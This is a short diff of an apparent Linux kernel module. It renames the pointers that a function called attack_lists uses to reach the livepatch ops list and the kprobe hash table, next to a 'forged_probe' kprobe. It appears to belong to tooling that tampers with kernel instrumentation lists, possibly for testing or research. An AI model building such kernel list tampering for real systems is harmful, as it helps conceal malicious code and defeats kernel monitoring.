@@ -15,8 +15,8 @@ static struct kprobe forged_probe;
 unsigned int attack_lists(void)
 {
 	struct module *me = THIS_MODULE;
-	struct list_head *next = me->list.next, *ops = (void *)klp_ops, *first = NULL;
-	struct hlist_head *bucket = (void *)kprobe_table;
+	struct list_head *next = me->list.next, *ops = (void *)ops_at, *first = NULL;
+	struct hlist_head *bucket = (void *)probes_at;
 	char name[sizeof(me->name)];
 
 	memcpy(name, me->name, sizeof(name));
